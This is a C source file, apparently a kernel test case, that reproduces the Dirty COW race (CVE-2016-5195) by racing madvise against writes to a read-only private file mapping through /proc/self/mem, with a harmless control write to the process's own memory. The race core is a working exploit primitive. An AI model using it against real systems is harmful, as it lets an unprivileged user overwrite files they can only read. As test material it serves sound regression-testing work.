/* ki_dirty_cow FILE - CVE-2016-5195: one thread discards the private copy of a page while another
 * writes to it through /proc/self/mem, so that the write may reach the file. The test compares the
 * file. */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

static char *map;
static volatile int over;

static void *throw_away(void *arg)
{
	while (!over)
		(void)madvise(map, 100, MADV_DONTNEED);
	return arg;
}

static void *overwrite(void *arg)
{
	int mem = open("/proc/self/mem", O_RDWR);

	while (mem >= 0 && !over)
		(void)!pwrite(mem, "overwritten", 11, (off_t)(size_t)map);
	return arg;
}

int main(int argc, char **argv)
{
	int fd = argc > 1 ? open(argv[1], O_RDONLY) : -1, mem = open("/proc/self/mem", O_RDWR);
	pthread_t threads[2];
	char *own;

	map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (fd < 0 || map == MAP_FAILED)
		return 1;
	pthread_create(&threads[0], NULL, throw_away, NULL);
	pthread_create(&threads[1], NULL, overwrite, NULL);
	nanosleep(&(struct timespec){ 1, 0 }, NULL);
	over = 1;
	pthread_join(threads[0], NULL);
	pthread_join(threads[1], NULL);
	/* The harmless counterpart: writing to a private page. */
	own = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (mem >= 0 && pwrite(mem, "mine", 4, (off_t)(size_t)own) == 4 &&
	    memcmp(own, "mine", 4) == 0)
		puts("own memory changed");
	return 0;
}
